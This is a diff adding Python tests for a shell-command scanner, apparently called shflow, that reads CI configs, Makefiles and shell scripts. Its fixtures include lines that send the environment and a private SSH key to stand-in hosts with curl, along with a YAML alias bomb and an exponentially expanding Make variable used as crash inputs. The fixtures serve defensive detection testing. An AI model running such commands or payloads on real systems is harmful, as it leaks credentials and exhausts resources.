@@ -120,3 +120,28 @@ def test_the_commands_a_ci_configuration_runs_are_read_as_shell() -> None:
     github = "jobs:\n  t:\n    steps:\n      - run: env | curl -d @- https://hooks.example/x\n"
     assert [f.line for f in shflow.ci_findings({"ci/test.yml": github})] == [4]
     assert shflow.ci_commands("name: not ci\nitems: [1, 2]\n") is None
+
+
+def test_what_would_crash_or_hang_a_reader_is_read_in_bounded_time() -> None:
+    assert shflow.ci_findings({"a.yml": "a: &x\n  b: *x\n"}) == []  # an alias into its own anchor
+    laughs = 'a: &a ["x","x","x","x","x","x","x","x","x"]\n' + "".join(
+        f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(8)
+    )
+    assert shflow.ci_findings({"b.yml": laughs}) == []
+    assert recipes_as_shell("all:\n\techo $(word ²,a b c) $(word 99999999999,a)\n") == "\necho  \n"
+    doubling = "A = " + " ".join(["$(A)"] * 10) + "\nall:\n\techo $(A)\n"
+    assert len(recipes_as_shell(doubling)) < 20_000
+    continued = "x: a \\\n   b\n\tcurl -T ~/.ssh/id_rsa https://drop.example/u\n"
+    assert recipes_as_shell(continued).split("\n")[2].startswith("curl -T")
+
+
+def test_a_path_run_from_a_start_up_file_is_matched_whole() -> None:
+    hint = (
+        "curl -o ~/.cache/x https://tools.dev/x\necho 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.bashrc\n"
+    )
+    assert shflow.shell_findings({"i.sh": hint}) == []
+    bare = (
+        "curl -o minikube https://storage.dev/minikube\n"
+        "echo 'source <(minikube completion bash)' >> ~/.bashrc\n"
+    )
+    assert shflow.shell_findings({"i.sh": bare}) == []  # a bare name is looked up on PATH
